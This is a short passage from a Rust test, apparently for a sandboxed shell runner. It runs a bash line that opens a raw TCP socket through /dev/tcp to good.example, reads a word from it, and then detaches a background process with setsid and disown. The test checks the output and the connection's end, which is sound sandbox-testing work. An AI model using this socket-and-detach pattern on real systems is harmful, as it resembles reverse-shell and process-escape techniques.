            Err(error) => error.kind() == std::io::ErrorKind::ConnectionReset,
            Ok(_) => true,
        }
    });
    let line =
        "exec 3<>/dev/tcp/good.example/$port; read -u 3 word; echo $word; setsid sleep 300 & disown; exit 0";
    let came = run(&jail, line, port);
    assert_eq!(came.done.succeeds().out, "hello\n");
    assert!(ended.join().unwrap());
}
